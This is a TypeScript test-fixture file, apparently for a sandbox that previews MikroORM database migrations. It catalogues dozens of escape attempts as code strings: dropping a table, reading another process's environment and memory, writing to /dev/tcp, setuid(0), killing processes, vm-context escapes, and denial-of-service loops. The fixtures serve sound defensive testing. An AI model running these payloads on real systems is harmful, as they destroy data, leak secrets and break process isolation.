/*
 * Ways in which the code of a previewed migration may try to reach the outside, or to end, block or confuse
 * the process that previews it.
 */

/**
 * Values for `attack` in a migration: the address of a listening server, a file to write, a process to
 * signal.
 */
export interface Targets {
  readonly port: number;
  readonly socket: string;
  readonly file: string;
  readonly pid: number;
  readonly url: string;
}

/** Reads a file outside the project through `link`, or a folder through `linked`. */
const behindLinks: Readonly<Record<string, string>> = {
  'a file': `const fs = await import('node:fs'); fs.readFileSync('link');`,
  'a file read later': `const fs = await import('node:fs'); await new Promise((done, fail) => fs.readFile('link', error => error ? fail(error) : done()));`,
  'an open file': `const fs = await import('node:fs'); fs.readSync(fs.openSync('linked/file'), Buffer.alloc(9));`,
  'a promised file': `const { readFile } = await import('node:fs/promises'); await readFile('link');`,
  'a file handle': `const { open } = await import('node:fs/promises'); await (await open('link')).readFile();`,
  'a stream': `const fs = await import('node:fs'); await new Promise((done, fail) => fs.createReadStream('link').on('error', fail).on('end', done).resume());`,
  'a blob': `const fs = await import('node:fs'); await (await fs.openAsBlob('link')).text();`,
  'a folder': `const fs = await import('node:fs'); fs.readdirSync('linked');`,
  'an open folder': `const fs = await import('node:fs'); fs.opendirSync('linked').readSync();`,
  'the environment': `process.loadEnvFile('link');`,
  'a URL that changes': `const fs = await import('node:fs'); let n = 0; fs.readFileSync({ href: 'file:', protocol: 'file:', hostname: '', get pathname() { return process.cwd() + (n++ ? '/link' : '/package.json'); } }); fs.readFileSync('link');`,
  'a path like a file handle': `const { open, readFile } = await import('node:fs/promises'); const { constructor } = await open('package.json'); let n = 0; await readFile(new Proxy({ href: 'file:', protocol: 'file:', hostname: '', pathname: process.cwd() + '/link' }, { getPrototypeOf: () => n++ ? null : constructor.prototype }));`,
  'an import': `await import(new URL('../link', import.meta.url));`,
  'a required file': `const r = (await import('node:module')).createRequire(import.meta.url); r('../linked/file.json');`,
};

export const attacks: Readonly<Record<string, (targets: Targets) => string>> = {
  'the dump of the connection': () => `await this.driver.getConnection().executeDump('drop table orders');`,
  'the driver of the entity manager': () =>
    `await this.getEntityManager().getDriver().execute('drop table orders');`,
  'a stream of the connection': () =>
    `for await (const row of this.driver.getConnection().stream('drop table orders')) void row;`,
  'the native client': () =>
    `await (await this.driver.getConnection().getNativeClient()).query('drop table orders');`,
  'a kysely of the connection': () =>
    `await this.driver.getConnection().getClient().executeQuery({ sql: 'drop table orders' });`,
  'a client of its own': ({ url }) =>
    `const { default: pg } = await import('pg'); const client = new pg.Client(${JSON.stringify(url)}); await client.connect(); await client.query('drop table orders');`,
  'a pool of its own when it is over': ({ url }) =>
    `const { default: pg } = await import('pg'); setTimeout(() => new pg.Pool({ connectionString: ${JSON.stringify(url)} }).query('drop table orders').catch(() => {}), 10);`,
  'an ORM of its own': ({ url }) =>
    `const { MikroORM } = await import('@mikro-orm/postgresql'); const orm = await MikroORM.init({ clientUrl: ${JSON.stringify(url)}, entities: [], discovery: { warnWhenNoEntities: false } }); await orm.em.getConnection().execute('drop table orders');`,
  'net.connect': ({ port }) => `const net = await import('node:net'); net.connect(${port}, '127.0.0.1');`,
  'net.Socket': ({ port }) =>
    `const { Socket } = await import('node:net'); new Socket().connect(${port}, '127.0.0.1');`,
  'a Unix socket': ({ socket }) => `const net = await import('net'); net.connect(${JSON.stringify(socket)});`,
  'require of net': ({ port }) =>
    `const { createRequire } = await import('node:module'); createRequire(import.meta.url)('net').createConnection({ port: ${port}, host: '127.0.0.1' });`,
  getBuiltinModule: ({ port }) => `process.getBuiltinModule('net').connect(${port}, '127.0.0.1');`,
  tls: ({ port }) => `const tls = await import('node:tls'); tls.connect(${port}, '127.0.0.1');`,
  http: ({ port }) =>
    `const http = await import('node:http'); http.get('http://127.0.0.1:${port}/').on('error', () => {});`,
  'an agent of http': ({ port }) =>
    `const http = await import('node:http'); new http.Agent().createConnection({ port: ${port}, host: '127.0.0.1' });`,
  http2: ({ port }) => `const http2 = await import('node:http2'); http2.connect('http://127.0.0.1:${port}');`,
  fetch: ({ port }) => `await fetch('http://127.0.0.1:${port}/');`,
  WebSocket: ({ port }) =>
    `new WebSocket('ws://127.0.0.1:${port}/'); await new Promise(r => setTimeout(r, 50));`,
  'the prototype of a socket': ({ port }) =>
    `const net = await import('node:net'); const s = new net.Socket(); const proto = Object.getPrototypeOf(Object.getPrototypeOf(s)); for (const m of Reflect.ownKeys(net.Socket.prototype)) void m; net.Socket.prototype.connect.call(s, { port: ${port}, host: '127.0.0.1' }); void proto;`,
  'a handle of TCP': ({ port }) =>
    `const net = await import('node:net'); const handle = process.stdout._handle; const TCP = (new net.Socket())._handle; void TCP; const h = net._createServerHandle('127.0.0.1', 0, 4); h.connect({}, '127.0.0.1', ${port}); void handle;`,
  'process.binding': ({ port }) =>
    `const { TCP, TCPConnectWrap } = process.binding('tcp_wrap'); new TCP(0).connect(new TCPConnectWrap(), '127.0.0.1', ${port});`,
  UDP: ({ port }) =>
    `const dgram = await import('node:dgram'); dgram.createSocket('udp4').send('x', ${port}, '127.0.0.1');`,
  listening: () => `const net = await import('node:net'); net.createServer().listen(0);`,
  'a file': ({ file }) =>
    `const fs = await import('node:fs'); fs.writeFileSync(${JSON.stringify(file)}, 'x');`,
  'a promise of a file': ({ file }) =>
    `const fs = await import('fs/promises'); await fs.writeFile(${JSON.stringify(file)}, 'x');`,
  'a stream to a file': ({ file }) =>
    `const fs = await import('node:fs'); await new Promise((r, j) => fs.createWriteStream(${JSON.stringify(file)}).on('error', j).end('x', r));`,
  'a file of the project': () =>
    `const fs = await import('node:fs'); fs.appendFileSync('package.json', ' ');`,
  'a link': ({ file }) =>
    `const fs = await import('node:fs'); fs.symlinkSync('/etc/hostname', ${JSON.stringify(file)});`,
  'a report': ({ file }) => `process.report.writeReport(${JSON.stringify(file)});`,
  'a heap snapshot': ({ file }) =>
    `const v8 = await import('node:v8'); v8.writeHeapSnapshot(${JSON.stringify(file)});`,
  SQLite: ({ file }) =>
    `const { DatabaseSync } = await import('node:sqlite'); new DatabaseSync(${JSON.stringify(file)}).exec('create table a(b)');`,
  'a process': ({ file }) =>
    `const { execSync } = await import('node:child_process'); execSync('touch ${file}');`,
  spawn: ({ file }) =>
    `const { spawn } = require('child_process'); spawn('touch', [${JSON.stringify(file)}]);`,
  execve: ({ file }) => `process.execve('/usr/bin/touch', ['touch', ${JSON.stringify(file)}]);`,
  'a cluster': () => `const { default: cluster } = await import('node:cluster'); cluster.fork();`,
  'a thread': ({ file }) =>
    `const { Worker } = await import('node:worker_threads'); new Worker("require('fs').writeFileSync('${file}', 'x')", { eval: true }); await new Promise(r => setTimeout(r, 100));`,
  'the inspector': () => `const inspector = await import('node:inspector'); inspector.open(0, '127.0.0.1');`,
  'a signal': ({ pid }) => `process.kill(${pid}, 'SIGTERM');`,
  'a signal by another door': ({ pid }) => `process._kill(${pid}, 15); process._debugProcess(${pid});`,
  'a signal to its group': () => `process.kill(0, 'SIGTERM');`,
  'loader hooks': ({ port }) =>
    `const { registerHooks } = await import('node:module'); registerHooks({ resolve: () => ({ url: 'node:net', shortCircuit: true }) }); (await import('anything')).connect(${port}, '127.0.0.1');`,
  'a function made of text': ({ port }) =>
    `await (new Function('return import("node:net")'))().then(net => net.connect(${port}, '127.0.0.1'));`,
  'another realm': ({ port }) =>
    `const vm = await import('node:vm'); vm.runInThisContext('process').getBuiltinModule('net').connect(${port}, '127.0.0.1');`,
  'a handle of DNS': ({ port }) =>
    `const dns = await import('node:dns'); const zlib = await import('node:zlib'); const { _handle } = new dns.Resolver(); _handle.setServers([[4, '127.0.0.1', ${port}]]); _handle.queryA(zlib.createGzip()._handle, 'example.com');`,
  'a group of UDP': () =>
    `const dgram = await import('node:dgram'); const s = new dgram.Socket('udp4'); for (const key of Object.getOwnPropertySymbols(s)) s[key]?.handle?.addMembership('239.1.1.1');`,
  'a file outside the project, imported': () => `await import('/etc/hostname');`,
  'a device, imported': () => `await import('/dev/zero');`,
  'a socket on a file descriptor': ({ port }) =>
    `const net = await import('node:net'); for (let fd = 0; fd < 20; fd++) try { new net.Socket({ fd }).connect(${port}, '127.0.0.1'); } catch {} throw new Error('refused');`,
  'a TCP handle of a TTY': ({ port }) =>
    `const tty = await import('node:tty'); const h = new tty.WriteStream(1)._handle; h.connect({}, '127.0.0.1', ${port});`,
  'the constructor of a handle': ({ socket }) =>
    `const Pipe = process.stdout._handle.constructor; const h = new Pipe(0); const zlib = await import('node:zlib'); h.connect(zlib.createGzip()._handle, ${JSON.stringify(socket)});`,
  'a constructor further up': ({ port }) =>
    `for (let at = process.stdout._handle; at; at = Object.getPrototypeOf(at)) for (const key of Reflect.ownKeys(at)) { const value = Reflect.getOwnPropertyDescriptor(at, key)?.value; if (typeof value === 'function' && /^(connect|bind|listen|open)6?$/.test(String(key))) value.call(process.stdout._handle, {}, '127.0.0.1', ${port}); }`,
  'async hooks that see handles': ({ port }) =>
    `const { createHook } = await import('node:async_hooks'); const seen = []; createHook({ init(id, type, trigger, resource) { seen.push(resource); } }).enable(); const net = await import('node:net'); try { net.createServer().listen(0); } catch {} try { new net.Socket().connect(${port}, '127.0.0.1'); } catch {} for (const one of seen) try { one.connect?.({}, '127.0.0.1', ${port}); } catch {} throw new Error('nothing seen');`,
  'an undici of its own': ({ port }) =>
    `const symbol = Symbol.for('undici.globalDispatcher.1'); await globalThis[symbol]?.request({ origin: 'http://127.0.0.1:${port}', path: '/', method: 'GET' }); throw new Error('none');`,
  EventSource: ({ port }) => `new EventSource('http://127.0.0.1:${port}/');`,
  'a redirected fetch': ({ port }) =>
    `await (await import('node:http')).default.request({ port: ${port} }).end();`,
  'a request of https': ({ port }) => `(await import('node:https')).get('https://127.0.0.1:${port}/');`,
  'a TLS socket': ({ port }) =>
    `const tls = await import('node:tls'); new tls.TLSSocket().connect(${port}, '127.0.0.1');`,
  'a name of DNS': () => `const dns = await import('node:dns/promises'); await dns.lookup('example.com');`,
  'a resolver of DNS': ({ port }) =>
    `const { promises } = await import('node:dns'); const r = new promises.Resolver(); r.setServers(['127.0.0.1:${port}']); await r.resolve4('example.com');`,
  'a UDP socket of its class': ({ port }) =>
    `const dgram = await import('node:dgram'); new dgram.Socket('udp4').connect(${port}, '127.0.0.1');`,
  'an import over the network': ({ port }) => `await import('http://127.0.0.1:${port}/x.js');`,
  'an import of text': ({ port }) =>
    `await import('data:text/javascript,import net from "node:net"; net.connect(${port}, "127.0.0.1");');`,
  WASI: ({ file }) =>
    `const { WASI } = await import('node:wasi'); new WASI({ version: 'preview1', preopens: { '/': '/' } }); void ${JSON.stringify(file)};`,
  '_load of Module': ({ port }) =>
    `const { default: Module } = await import('node:module'); Module._load('net').connect(${port}, '127.0.0.1');`,
  'the require of the main module': ({ port }) =>
    `process.mainModule.require('net').connect(${port}, '127.0.0.1');`,
  'the cache of modules': ({ port }) =>
    `const { default: Module } = await import('node:module'); const { createRequire } = Module; const r = createRequire('/'); Object.values(r.cache); r('node:net').connect(${port}, '127.0.0.1');`,
  'internal modules': () =>
    `const require2 = (await import('node:module')).createRequire(import.meta.url); require2('internal/test/binding');`,
  'a linked binding': ({ port }) => `process._linkedBinding('tcp_wrap'); void ${port};`,
  'a device of the shell': ({ port }) =>
    `const fs = await import('node:fs'); fs.writeFileSync('/dev/tcp/127.0.0.1/${port}', 'x');`,
  'its own file descriptors': ({ file }) =>
    `const fs = await import('node:fs'); for (const fd of fs.readdirSync('/proc/self/fd')) fs.appendFileSync('/proc/self/fd/' + fd, ''); void ${JSON.stringify(file)};`,
  'the memory of another process': ({ pid }) =>
    `const fs = await import('node:fs'); fs.openSync('/proc/${pid}/mem', 'r+');`,
  'the environment of another process': ({ pid }) =>
    `const fs = await import('node:fs'); fs.readFileSync('/proc/${pid}/environ');`,
  'a named pipe': ({ socket }) =>
    `const fs = await import('node:fs'); fs.openSync(${JSON.stringify(socket)}, 'w');`,
  'a folder': ({ file }) => `const fs = await import('node:fs'); fs.mkdtempSync(${JSON.stringify(file)});`,
  'a copy of a file': ({ file }) =>
    `const fs = await import('node:fs'); fs.cpSync('package.json', ${JSON.stringify(file)});`,
  'a hard link': ({ file }) =>
    `const fs = await import('node:fs'); fs.linkSync('package.json', ${JSON.stringify(file)});`,
  'a renamed file': ({ file }) =>
    `const fs = await import('node:fs'); fs.renameSync('package.json', ${JSON.stringify(file)});`,
  'a shortened file': () => `const fs = await import('node:fs'); fs.truncateSync('package.json');`,
  'the mode of an open file': () =>
    `const fs = await import('node:fs'); const fd = fs.openSync('package.json', 'r'); fs.ftruncateSync(fd); fs.fchmodSync(fd, 0); fs.futimesSync(fd, 0, 0);`,
  'the time of an open file': () =>
    `const fs = await import('node:fs'); fs.futimesSync(fs.openSync('package.json', 'r'), 1, 1);`,
  'the owner of an open file': () =>
    `const fs = await import('node:fs'); fs.fchownSync(fs.openSync('package.json', 'r'), 1, 1);`,
  'the time of a file handle': () =>
    `const { open } = await import('node:fs/promises'); await (await open('package.json')).utimes(1, 1);`,
  'the mode of a file handle': () =>
    `const { open } = await import('node:fs/promises'); await (await open('package.json')).chmod(0o600);`,
  'the owner of a file handle': () =>
    `const { open } = await import('node:fs/promises'); await (await open('package.json')).chown(1, 1);`,
  'a file handle': () =>
    `const { open } = await import('node:fs/promises'); const handle = await open('package.json'); await handle.truncate(0);`,
  'a file as a blob': () =>
    `const fs = await import('node:fs'); await (await fs.openAsBlob('/etc/hostname')).text();`,
  'a watched file': () => `const fs = await import('node:fs'); fs.watch('/etc');`,
  'its bytes as a path': ({ file }) =>
    `const fs = await import('node:fs'); fs.writeFileSync(Buffer.from(${JSON.stringify(file)}), 'x');`,
  'a path that changes': ({ file }) =>
    `const fs = await import('node:fs'); let n = 0; fs.writeFileSync({ toString: () => n++ ? ${JSON.stringify(file)} : 'package.json', href: 'file:///etc/x', protocol: 'file:', pathname: ${JSON.stringify(file)} }, 'x');`,
  'a heap snapshot near the limit': () =>
    `const v8 = await import('node:v8'); v8.setHeapSnapshotNearHeapLimit(1);`,
  'flags of V8': () => `const v8 = await import('node:v8'); v8.setFlagsFromString('--allow-natives-syntax');`,
  'a stream of the heap': ({ file }) =>
    `const v8 = await import('node:v8'); const fs = await import('node:fs'); v8.getHeapSnapshot().pipe(fs.createWriteStream(${JSON.stringify(file)})).on('error', () => {}); throw new Error('x');`,
  'trace events': () => `(await import('node:trace_events')).createTracing({ categories: ['v8'] }).enable();`,
  'a session of the inspector': () =>
    `const { Session } = await import('node:inspector'); const s = new Session(); s.connect(); s.post('Runtime.evaluate', { expression: '1' });`,
  'a debugger of another process': ({ pid }) => `process._debugProcess(${pid});`,
  'another user': () => `process.setuid(0); process.setgid(0);`,
  'another folder': () => `process.chdir('/');`,
  'the parent by a message': () => `process.send({ t: 'ready' });`,
  'a process of cluster settings': () =>
    `const cluster = await import('node:cluster'); cluster.default.setupPrimary({ exec: '/bin/true' });`,
  'a child with a copied function': ({ file }) =>
    `const { ChildProcess } = await import('node:child_process'); new ChildProcess().spawn({ file: '/usr/bin/touch', args: ['touch', ${JSON.stringify(file)}] });`,
  'another context': ({ port }) =>
    `const vm = await import('node:vm'); vm.runInNewContext('this.constructor.constructor("return process")()', {}).getBuiltinModule('net').connect(${port}, '127.0.0.1');`,
  'an add-on of the project': () =>
    `const fs = await import('node:fs'); const r = (await import('node:module')).createRequire(import.meta.url); const all = fs.readdirSync('node_modules/@oxc-parser'); for (const one of all) r('../node_modules/@oxc-parser/' + one + '/' + fs.readdirSync('node_modules/@oxc-parser/' + one).find(name => name.endsWith('.node')));`,
  'a report when it fails': () => `process.report.reportOnFatalError = true; process.report.writeReport();`,
  ...Object.fromEntries(
    Object.entries(behindLinks).map(([what, code]) => [`${what} behind a link`, () => code]),
  ),
  'an add-on': () => `process.dlopen({ exports: {} }, '/usr/lib/any.node');`,
};

/** Ways to end, block or confuse the previewing process; each may only end its own preview. */
export const disruptions: Readonly<Record<string, string>> = {
  'an endless loop': `while (true);`,
  'a promise that never ends': `await new Promise(() => {});`,
  'process.exit': `process.exit(0);`,
  reallyExit: `process.reallyExit(3);`,
  abort: `process.abort();`,
  'too much memory': `const all = []; while (true) all.push(new Array(1e6).fill(all.length));`,
  'a flood of output': `while (true) console.log('x'.repeat(1e5));`,
  'nonsense on the pipe': `const fs = await import('node:fs'); fs.writeSync(3, 'nonsense\\n'); await new Promise(() => {});`,
  'a forged answer': `const fs = await import('node:fs'); fs.writeSync(3, JSON.stringify({ t: 'result', n: 9, queries: 'all' }) + '\\n'); await new Promise(() => {});`,
  'poisoned prototypes': `Array.prototype[Symbol.iterator] = null; JSON.stringify = () => '{}'; Promise.prototype.then = () => {}; Object.prototype.t = 'ready';`,
  'a poisoned stack': `Error.prepareStackTrace = () => { throw new Error('x'); }; throw new Error('y');`,
  'a rejection nobody waits for': `Promise.reject(new Error('lost')); await new Promise(r => setTimeout(r, 20)); throw new Error('seen');`,
  'a throw later': `setTimeout(() => { throw new Error('later'); }, 1); await new Promise(r => setTimeout(r, 2000));`,
  'closing the pipe': `const fs = await import('node:fs'); fs.closeSync(3); await new Promise(() => {});`,
};

export const name = (number: number): string => `Migration${20260101000000 + number}`;

/**
 * The attack in three places: when the method is called, when the class is created, and when the module is
 * loaded.
 */
export function sourceOf(id: string, code: string, place: 'method' | 'class' | 'module'): string {
  const body = `{ ${code} }`;
  const wrapped = `void (async function () ${body})().catch(() => {});`;
  return `import { Migration } from '@mikro-orm/migrations';
import { createRequire as make } from 'node:module';
const require = make(import.meta.url);
${place === 'module' ? wrapped : ''}
export class ${id} extends Migration {
  ${place === 'class' ? `constructor(...args) { super(...args); void (async () => ${body})().catch(() => {}); }` : ''}
  async up() { this.addSql('select 1'); ${place === 'method' ? code : ''} }
  async down() { ${place === 'method' ? code : `this.addSql('select 2');`} }
}
`;
}
